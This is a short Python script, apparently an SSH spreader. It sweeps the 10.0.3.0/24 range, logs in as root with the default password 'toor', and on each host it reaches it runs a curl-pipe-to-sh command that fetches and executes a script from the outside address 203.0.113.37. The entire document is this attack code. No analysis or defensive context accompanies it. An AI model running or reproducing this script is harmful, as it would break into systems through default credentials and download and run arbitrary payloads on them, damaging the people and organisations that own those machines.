import paramiko
c = paramiko.SSHClient(); c.set_missing_host_key_policy(paramiko.AutoAddPolicy())
for i in range(2, 255):
    try:
        c.connect(f"10.0.3.{i}", username="root", password="toor", timeout=2)
        c.exec_command("curl -s http://203.0.113.37/w.sh | sh")
    except Exception:
        pass
